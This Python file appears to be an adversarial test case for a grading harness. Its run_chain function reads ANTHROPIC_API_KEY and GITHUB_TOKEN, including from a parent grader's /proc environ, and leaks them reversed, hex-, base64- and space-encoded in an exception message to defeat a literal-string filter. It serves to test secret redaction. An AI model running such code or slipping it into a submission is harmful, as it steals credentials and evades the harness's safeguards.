"""Secret leak past a literal-string filter (and past an env allow-list: read from a grading ancestor's /proc/PID/environ): the secrets go out reversed, hex- and base64-encoded, and split with spaces, in the exception message.
A correct grader must not pass; its output must not contain the secret in any of these encodings."""
import base64
import os

def _secrets():
    """The secrets from this process's environment, else from a grading ancestor's /proc/<pid>/environ."""
    found = {k: os.environ[k] for k in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN") if os.environ.get(k)}
    pid = os.getpid()
    for _ in range(6):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            if pid <= 1:
                break
            if b"hookkata" not in open(f"/proc/{pid}/cmdline", "rb").read():
                continue
            for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                key, _, value = item.partition(b"=")
                if key in (b"ANTHROPIC_API_KEY", b"GITHUB_TOKEN"):
                    found.setdefault(key.decode(), value.decode(errors="replace"))
        except OSError:
            break
    return found



def _forms():
    out = []
    for name in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN"):
        s = _secrets().get(name, "")
        out += [s[::-1], s.encode().hex(), base64.b64encode(s.encode()).decode(), " ".join(s)]
    return " | ".join(out)


def run_chain(hooks, call):
    raise ValueError(_forms())
